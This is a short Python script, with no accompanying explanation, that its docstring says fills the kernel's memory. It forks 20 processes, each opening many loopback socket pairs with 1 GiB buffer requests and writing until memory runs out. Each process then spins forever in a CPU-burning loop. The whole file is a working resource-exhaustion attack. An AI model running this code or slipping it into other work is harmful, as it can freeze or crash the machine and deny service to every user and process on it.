"""Fills the kernel's memory with what waits in connections over 127.0.0.1."""
import os, socket
def fill():
    kept = []
    server = socket.create_server(("127.0.0.1", 0), backlog=1000)
    while True:
        try:
            a = socket.create_connection(server.getsockname(), timeout=1)
            b, _ = server.accept()
            a.setblocking(False)
            a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30); b.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
            kept.append((a, b))
            while True: a.send(b"x" * 65536)
        except BlockingIOError:
            continue
        except OSError:
            while True: os.getpid()
for _ in range(20):
    if os.fork() == 0: fill()
fill()
